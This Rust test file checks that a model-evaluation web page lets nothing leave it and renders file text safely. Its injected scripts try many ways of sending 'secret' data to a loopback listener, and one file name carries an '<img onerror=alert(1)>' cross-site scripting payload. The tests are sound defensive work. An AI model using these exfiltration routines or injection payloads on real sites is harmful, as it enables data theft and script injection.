//! Nothing leaves the page, and no text in a file runs.

use crate::fixture::{Fixture, HOSTILE};
use crate::page::{choose, evaluate, failures, open};
use crate::programs;
use crate::serve::Server;
use serde_json::{Value, json};
use std::io::Read as _;
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

/// Somebody who would like to hear of the visitor's files; the address, and how often it was called.
fn listener() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a loopback port is free");
    let address = listener.local_addr().expect("a bound port has an address");
    let heard = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&heard);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            // A connection that says nothing took nothing with it: browsers open some ahead.
            if stream.read(&mut [0; 16]).is_ok_and(|count| count > 0) {
                counter.fetch_add(1, Ordering::SeqCst);
            }
        }
    });
    (address.to_string(), heard)
}

/// Every way out that a script has: each ends with what became of it.
const WAYS: &str = "
    const went = {};
    const tried = async (name, way) => { try { went[name] = String(await way()); } catch (e) { went[name] = 'refused'; } };
    const event = (object, good) => new Promise((resolve, reject) => {
        object.addEventListener(good, () => resolve('went'));
        object.addEventListener('error', () => reject(new Error('refused')));
        setTimeout(() => resolve('silent'), 1500);
    });
    await tried('fetch', () => fetch(`http://${WHERE}/fetch`, { mode: 'no-cors' }).then(() => 'went'));
    await tried('own', () => fetch('index.html').then(() => 'went'));
    await tried('xhr', () => { const x = new XMLHttpRequest(); x.open('POST', `http://${WHERE}/xhr`); const e = event(x, 'load'); x.send('secret'); return e; });
    await tried('socket', () => event(new WebSocket(`ws://${WHERE}/socket`), 'open'));
    await tried('events', () => event(new EventSource(`http://${WHERE}/events`), 'open'));
";

/// Those that a worker does not have.
const WAYS_OF_PAGES: &str = "
    await tried('beacon', () => navigator.sendBeacon(`http://${WHERE}/beacon`, 'secret'));
    await tried('image', () => { const i = new Image(); const e = event(i, 'load'); i.src = `http://${WHERE}/image`; return e; });
    const added = (tag, fields) => { const made = Object.assign(document.createElement(tag), fields); const e = event(made, 'load'); document.body.append(made); return e; };
    await tried('style', () => added('link', { rel: 'stylesheet', href: `http://${WHERE}/style` }));
    await tried('frame', () => { const f = document.createElement('iframe'); f.src = `http://${WHERE}/frame`; document.body.append(f); return 'asked'; });
    await tried('form', () => { const f = Object.assign(document.createElement('form'), { action: `http://${WHERE}/form`, method: 'post', target: '_blank' }); document.body.append(f); f.submit(); return 'asked'; });
    await tried('inline', () => { globalThis.ran = false; const s = document.createElement('script'); try { s.text = 'globalThis.ran = true'; } catch { return 'refused'; } document.body.append(s); return ran ? 'went' : 'refused'; });
";

#[test]
fn nothing_leaves_the_page() {
    let Some(programs) = programs() else { return };
    let server = Server::start();
    let (address, heard) = listener();
    // Calls do arrive there: what follows could be seen.
    let mut stream = std::net::TcpStream::connect(&address).expect("connects");
    std::io::Write::write_all(&mut stream, b"GET / HTTP/1.1\r\n\r\n").expect("sends");
    drop(stream);
    let browser = crate::driver::Browser::start(&programs);
    browser.wait("the listener hears", || (heard.load(Ordering::SeqCst) == 1).then_some(()));
    let place = format!("const WHERE = {};", json!(address));
    // The worker tries, too, before anything else in it.
    browser.before_each_worker(&format!(
        "(async () => {{ {place} {WAYS} new BroadcastChannel('test').postMessage(went); }})();"
    ));
    browser.before_each_page(
        "new BroadcastChannel('test').addEventListener('message', ({ data }) => { globalThis.workerWent = data; });",
    );
    browser.open(&server.url);
    crate::page::self_check(&browser);
    let went = browser.until("the worker has tried", "return globalThis.workerWent ?? null;");
    all_refused(&went, "the worker");
    let went = browser.run_async(&format!("{place} {WAYS} {WAYS_OF_PAGES} return went;"));
    all_refused(&went, "the page");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(heard.load(Ordering::SeqCst), 1, "somebody was called: {went}");
}

fn all_refused(went: &Value, who: &str) {
    let went = went.as_object().unwrap_or_else(|| panic!("{who}: {went}"));
    assert!(went.len() >= 5, "{who} has tried too little: {went:?}");
    for (way, outcome) in went {
        // `sendBeacon` returns true for what is refused later; what is asked for without an answer is seen by the listener.
        let refused = outcome == "refused" || matches!(way.as_str(), "beacon" | "frame" | "form");
        assert!(refused, "{who}: {way} was not refused but {outcome}");
    }
}

#[test]
fn texts_stay_texts() {
    let Some(programs) = programs() else { return };
    let (server, files) = (Server::start(), Fixture::get());
    let browser = open(&programs, &server.url);
    browser.run("globalThis.alerts = 0; globalThis.alert = () => { globalThis.alerts += 1; };");
    choose(&browser, "checkpoint", &[&files.path("candidate.safetensors")]);
    let hostile = files.file("hostile <img src=x onerror=alert(1)>.jsonl", &files.read("eval.jsonl"));
    choose(&browser, "eval_set", &[&hostile]);
    assert_eq!(evaluate(&browser, "cpu"), "done", "{:?}", failures(&browser));
    // The bundle's own row, and its texts.
    browser.run(&format!(
        "const field = document.querySelector('input[type=\"search\"]'); field.value = {}; \
         field.dispatchEvent(new Event('input')); document.querySelector('.items [data-index]').click();",
        json!(HOSTILE)
    ));
    let texts =
        browser.until("its texts are shown", "return document.querySelector('.texts section')?.innerText ?? null;");
    let texts = texts.as_str().expect("a text");
    assert!(texts.matches(HOSTILE).count() >= 4 && texts.contains("<b>sense</b>"), "{texts}");
    let made =
        "return [alerts, document.images.length, document.querySelectorAll('.result script, .result b').length];";
    assert_eq!(browser.run(made), json!([0, 0, 0]), "a file's text became markup");
}
